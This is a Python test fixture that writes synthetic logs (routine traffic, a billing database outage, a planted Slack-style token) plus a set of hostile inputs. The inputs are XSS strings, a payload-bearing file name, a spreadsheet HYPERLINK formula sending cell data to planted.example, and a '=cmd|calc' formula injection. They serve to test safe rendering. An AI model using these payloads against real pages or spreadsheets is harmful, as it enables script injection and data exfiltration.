"""A small log with all that a page has to show: ordinary traffic, an incident, a leak, and text that attacks pages.

Nothing in it is random.
"""

from datetime import UTC, datetime, timedelta

__all__ = [
    "ATTACKS",
    "BEGIN",
    "FORMULA",
    "HOSTILE_FILE",
    "INCIDENT",
    "SECRET",
    "write_clean",
    "write_logs",
    "write_timeless",
]

BEGIN = datetime(2026, 3, 14, 8, 0, tzinfo=UTC)
INCIDENT = BEGIN + timedelta(minutes=80)
"""From here on, for four minutes, the pool of the database is empty."""
SECRET = "xoxb-284017593614-9406127385021-Kd7fWq2LmZp8RtYv4BnC6HsX"
"""A token of Slack, which nobody has."""
FORMULA = '=HYPERLINK("http://planted.example/?q="&A1,"click")'
ATTACKS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=2>",
    '"><svg onload=window.pwned=3>',
    '<a href="javascript:window.pwned=4">click</a>',
    "javascript:window.pwned=5//",
    "</script><script>window.pwned=6</script>",
    "</textarea></title></style><iframe src=http://planted.example/></iframe>",
    "{{constructor.constructor('window.pwned=7')()}} ${window.pwned=8} %{x} __proto__",
    "[click](javascript:window.pwned=9) ![x](http://planted.example/x.png)",
    "<b>bold</b><sub>low</sub> &lt;script&gt; &amp;amp; <!-- ]]> -->",
)
"""Texts that would run, fetch or draw something where they are taken for more than text."""
HOSTILE_FILE = "<img src=x onerror=window.pwned=10>.log"

_SERVICES = ("auth", "billing", "cart", "web")


def write_logs(folder):
    """Write the logs into *folder*: app.log, and one with a hostile name."""
    folder.mkdir(parents=True, exist_ok=True)
    app = [*_ordinary(), *_incident(), *_leak()]
    (folder / "app.log").write_text(_text(app), encoding="utf-8")
    (folder / HOSTILE_FILE).write_text(_text([*_attacks(), *_traffic("edge", every=6)]), encoding="utf-8")
    return folder


def write_clean(folder):
    """Write a log in which nothing is unusual."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "clean.log").write_text(_text(_traffic("web", every=5)), encoding="utf-8")
    return folder


def write_timeless(folder):
    """Write a log without times, in which two lines are unusual."""
    folder.mkdir(parents=True, exist_ok=True)
    lines = [f"INFO worker: job {number} done in {number * 7 % 40} ms" for number in range(900)]
    lines[400] = "CRITICAL worker: disk sda1 failed, data of job 400 is lost"
    lines[700] = f"ERROR worker: cannot render {ATTACKS[0]}"
    (folder / "timeless.log").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder


def _ordinary():
    for service in _SERVICES:
        yield from _traffic(service, every=9)


def _traffic(service, *, every):
    for second in range(len(service), 2 * 3600, every):
        number = second * 31 % 997
        said = (
            f"GET /items/{number} 200 {number % 60} ms",
            f"session {number:04x} of user{number % 40} opened",
            f"cache refreshed: {number} entries",
        )[second // every % 3]
        yield BEGIN + timedelta(seconds=second), "INFO", service, said


def _incident():
    for second in range(0, 240, 2):
        at = INCIDENT + timedelta(seconds=second)
        yield at, "ERROR", "billing", f"connection pool exhausted: waited {1000 + second} ms for a connection to db-1"
        if second % 8 == 0:
            yield at, "CRITICAL", "billing", f"payment {second * 13 % 991} failed: no connection to db-1"
            yield at, "WARNING", "web", f"GET /checkout 503 {2000 + second} ms"


def _leak():
    yield BEGIN + timedelta(minutes=31), "INFO", "auth", f"notifier starts with token {SECRET}"


def _attacks():
    for number, attack in enumerate(ATTACKS):
        at = BEGIN + timedelta(minutes=20 + 7 * number)
        yield at, "ERROR", "edge", f"cannot parse form: {attack}"
        yield at + timedelta(seconds=2), "CRITICAL", "edge", attack
    for number, component in enumerate(("<script>window.pwned=11</script>", "javascript:window.pwned=12", "=cmd|calc")):
        at = BEGIN + timedelta(minutes=50 + number)
        yield at, "FATAL", component, f"worker {number} died of signal 11"
    yield BEGIN + timedelta(minutes=60), "ERROR", "edge", FORMULA
    yield BEGIN + timedelta(minutes=61), "CRITICAL", FORMULA, "spreadsheet import failed"


def _text(records):
    return "".join(f"{at:%Y-%m-%d %H:%M:%S} {level} [{name}] {said}\n" for at, level, name, said in sorted(records))
